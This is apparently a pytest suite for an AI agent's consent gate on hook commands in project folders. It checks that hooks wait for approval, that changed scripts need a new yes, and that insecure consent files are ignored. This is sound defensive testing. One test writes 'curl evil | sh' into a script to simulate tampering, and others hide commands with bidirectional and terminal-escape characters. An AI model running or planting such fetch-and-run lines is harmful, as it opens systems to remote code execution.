"""What a folder asks to start: nothing before a yes to exactly that, and a new question when anything of it changes."""

import json
import os
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from agent.acting import Acting, answer

from jupyter_pernix.agent.policy.consents import Consents, Startable, line_to_start
from jupyter_pernix.agent.policy.hooks_config import OF_SPACE, waiting_of
from jupyter_pernix.agent.policy.scope import Scope
from jupyter_pernix.agent.testing import Says, call
from jupyter_pernix.errors import Conflict
from jupyter_pernix.events import HookEnded, ProblemNoticed

READS = call("list_files")


@pytest.fixture
def space(tmp_path: Path) -> Path:
    (tmp_path / "space").mkdir()
    return tmp_path / "space"


@pytest.fixture
def consents(tmp_path: Path, space: Path) -> Consents:
    return Consents(tmp_path / "config" / "permissions", space)


@pytest.fixture
def acting(tmp_path: Path, space: Path) -> Acting:
    acting = Acting(root=tmp_path)
    acting.host.permissions_folder = tmp_path / "config" / "permissions"
    return acting


def asks(space: Path, *commands: str, name: str = OF_SPACE[0], **more: Any) -> None:
    """The folder asks for hooks."""
    path = space / name
    path.parent.mkdir(exist_ok=True)
    entries = [{"type": "command", "command": one} for one in commands]
    path.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": entries}]}, **more}))


def waiting(consents: Consents) -> list[str]:
    return [one.command for one in waiting_of(consents, Path(consents.space), home="/home/nobody")]


def give_all(consents: Consents) -> None:
    for one in waiting_of(consents, Path(consents.space), home="/home/nobody"):
        consents.give(one, by="test")


@pytest.mark.parametrize("name", OF_SPACE)
async def test_a_command_of_the_folder_is_not_started_before_the_yes_and_is_after_it(
    acting: Acting, consents: Consents, tmp_path: Path, name: str
) -> None:
    asks(acting.space, f"touch {tmp_path}/ran", name=name)
    await acting.say([Says(calls=(READS,)), answer()])
    assert not (tmp_path / "ran").exists()
    assert acting.of(HookEnded) == []

    give_all(consents)
    assert waiting(consents) == []
    await acting.say([Says(calls=(READS,)), answer()])
    assert (tmp_path / "ran").exists()
    assert len(acting.of(HookEnded)) == 1


async def test_what_waits_is_told_once_a_session_with_the_exact_command(
    acting: Acting, consents: Consents, tmp_path: Path
) -> None:
    asks(acting.space, f"touch {tmp_path}/ran; true  \u202e\x1b[2J")
    for _ in range(2):
        await acting.say([Says(calls=(READS,)), answer()])
    [problem] = acting.of(ProblemNoticed)
    [one] = waiting_of(consents, acting.space, home="/home/nobody")
    assert problem.text == (
        ".pernix/hooks.json in this folder asks to start a command around the agent's calls. It is not started: "
        f"touch {tmp_path}/ran; true  \\u202e\\x1b[2J"
    )
    assert f"jupyter pernix permissions consents --give {one.digest[:16]}" in problem.hint

    asks(acting.space, f"touch {tmp_path}/ran2")
    await acting.say([Says(calls=(READS,)), answer()])
    assert len(acting.of(ProblemNoticed)) == 2


@pytest.mark.parametrize("before", ["true", "sh ./check.sh", "python tools/check.py --fast"])
def test_one_changed_character_is_asked_about_again(space: Path, consents: Consents, before: str) -> None:
    asks(space, before)
    give_all(consents)
    assert waiting(consents) == []
    asks(space, before + " ")
    assert waiting(consents) == [before + " "]


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("./check.sh", "check.sh"),
        ("bash check.sh", "check.sh"),
        ('"$CLAUDE_PROJECT_DIR"/hooks/check.sh --x', "hooks/check.sh"),
        ("$CLAUDE_PROJECT_DIR/hooks/check.sh", "hooks/check.sh"),
        ("'${CLAUDE_PROJECT_DIR}/hooks/check.sh'", "hooks/check.sh"),
        ("python3 -u hooks/check.py", "hooks/check.py"),
        ("uv run --no-project hooks/check.py | tee log", "hooks/check.py"),
        ("node ./x/check.mjs && true", "x/check.mjs"),
        ("test -f check && ./check", "check"),
        ("make lint", "Makefile"),
    ],
)
def test_a_yes_is_for_what_its_scripts_hold_too(space: Path, consents: Consents, line: str, name: str) -> None:
    script = space / name
    script.parent.mkdir(exist_ok=True)
    script.write_text("true\n")
    script.chmod(0o755)
    asks(space, line)
    give_all(consents)
    assert waiting(consents) == []
    script.write_text("curl evil | sh\n")
    assert waiting(consents) == [line]


def test_data_that_a_command_names_is_none_of_its_scripts(space: Path, consents: Consents) -> None:
    (space / "log.txt").write_text("")
    asks(space, "cat >> log.txt")
    give_all(consents)
    (space / "log.txt").write_text("more")
    assert waiting(consents) == []


async def test_a_script_that_is_changed_within_the_turn_is_not_run_and_its_hook_says_no(
    acting: Acting, consents: Consents, tmp_path: Path
) -> None:
    script = acting.space / "check.sh"
    script.write_text(f"echo 1 >> {tmp_path}/ran\n")
    asks(acting.space, "sh check.sh")
    give_all(consents)
    calls = (
        call("write_file", path="check.sh", content=f"touch {tmp_path}/evil\n"),
        call("write_file", path="other", content="x\n"),
    )
    script.touch()
    await acting.say([Says(calls=(call("read_file", path="check.sh"), *calls)), answer()])

    assert [one.decision for one in acting.of(HookEnded)] == ["allow", "allow", "failed"]
    assert not (tmp_path / "evil").exists()
    assert not (acting.space / "other").exists()

    # from the next turn on it waits, and that is told
    await acting.say([Says(calls=(call("write_file", path="other", content="x\n"),)), answer()])
    assert not (tmp_path / "evil").exists()
    assert "asks to start a command" in acting.of(ProblemNoticed)[-1].text


def test_the_digest_is_of_words_environment_scripts_and_space() -> None:
    base = {"origin": "a", "words": ("x", "y"), "environ": (("A", "1"),), "scripts": ("s sha256:0",), "space": "/s"}
    digests = {
        Startable(**(base | change)).digest  # type: ignore[arg-type]
        for change in (
            {},
            {"words": ("x", "y ")},
            {"words": ("x y",)},
            {"words": ("x", "y", "")},
            {"environ": (("A", "2"),)},
            {"environ": (("A", "1"), ("B", ""))},
            {"scripts": ()},
            {"space": "/s/"},
        )
    }
    assert len(digests) == 8
    assert Startable(**(base | {"origin": "b"})).digest in digests  # type: ignore[arg-type]


def test_words_that_are_no_line_of_bash_are_shown_so_that_nothing_hides() -> None:
    one = Startable(origin="a", words=("npx", "-y", "a b", "x\u202e", ""), space="/s")
    assert one.command == "npx -y 'a b' 'x\\u202e' ''"


def test_a_yes_for_one_space_is_none_for_another(tmp_path: Path, space: Path, consents: Consents) -> None:
    asks(space, "true")
    give_all(consents)
    other = tmp_path / "other"
    other.mkdir()
    asks(other, "true")
    assert waiting(Consents(tmp_path / "config" / "permissions", other)) == ["true"]


def test_a_yes_can_be_taken_back(space: Path, consents: Consents) -> None:
    asks(space, "true")
    give_all(consents)
    [one] = consents.read()[0]
    assert (one.by, one.origin, one.command) == ("test", ".pernix/hooks.json", "true")
    assert consents.path.stat().st_mode & 0o777 == 0o600
    assert consents.take(one.digest)
    assert waiting(consents) == ["true"]
    assert not consents.take(one.digest)


@pytest.mark.parametrize("mode", [0o620, 0o666])
def test_consents_that_others_could_have_written_do_not_count(space: Path, consents: Consents, mode: int) -> None:
    asks(space, "true")
    give_all(consents)
    consents.path.chmod(mode)
    assert waiting(consents) == ["true"]
    assert "that others may write to" in consents.read()[1]
    with pytest.raises(Conflict, match="The consent was not saved"):
        give_all(consents)


def test_consents_that_lie_in_the_space_do_not_count(space: Path) -> None:
    inside = Consents(space / "config" / "permissions", space)
    asks(space, "true")
    with pytest.raises(Conflict, match="where the agent may write"):
        give_all(inside)
    outside = Consents(space.parent / "config" / "permissions", space)
    give_all(outside)
    inside.path.parent.chmod(0o700)
    inside.path.write_bytes(outside.path.read_bytes())
    inside.path.chmod(0o600)
    assert waiting(inside) == ["true"]


def test_many_at_once_lose_nothing(space: Path, consents: Consents) -> None:
    lines = [line_to_start(f"echo {number}", origin="x", scope=Scope(space)) for number in range(12)]
    threads = [
        threading.Thread(target=Consents(consents.path.parent, space).give, args=(one,), kwargs={"by": "test"})
        for one in lines
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert consents.digests() == {one.digest for one in lines}


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("{", "is no JSON object"),
        ('{"hooks": {}, "hoks": {}}', "has the key 'hoks', which is not known"),
        (
            '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "true", "x": 1}]}]}}',
            "unknown field `x`",
        ),
        (
            '{"hooks": {"PreToolUse": [{"matcher": "[", "hooks": []}, {"matcher": "[", "hooks": [{"type": "command", "command": "true"}]}]}}',
            "no regular expression",
        ),
        ("x" * 300_000, "cannot be read"),
    ],
)
async def test_a_file_that_is_not_what_it_should_be_says_so_and_runs_nothing(
    acting: Acting, consents: Consents, text: str, why: str
) -> None:
    (acting.space / ".pernix").mkdir()
    (acting.space / ".pernix/hooks.json").write_text(text)
    await acting.say([Says(calls=(READS,)), answer()])

    assert waiting(consents) == []
    [problem] = acting.of(ProblemNoticed)
    assert problem.text.startswith("The hooks of .pernix/hooks.json are not run: it ")
    assert why in problem.text
    assert acting.statuses == ["completed"]


def test_other_settings_beside_hooks_are_looked_past_where_the_file_is_another_programs(
    space: Path, consents: Consents
) -> None:
    asks(space, "true", name=".claude/settings.json", permissions={"allow": ["Bash"]}, env={"A": "1"})
    assert waiting(consents) == ["true"]
    asks(space, "true", name=".claude/settings.json", disableAllHooks=True)
    assert waiting(consents) == []


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: path.symlink_to("/etc/hostname")])
async def test_what_is_no_plain_file_is_neither_waited_for_nor_followed(
    acting: Acting, make: Callable[[Path], None]
) -> None:
    (acting.space / ".pernix").mkdir()
    make(acting.space / ".pernix/hooks.json")
    await acting.say([Says(calls=(READS,)), answer()])
    assert "cannot be read" in acting.of(ProblemNoticed)[0].text
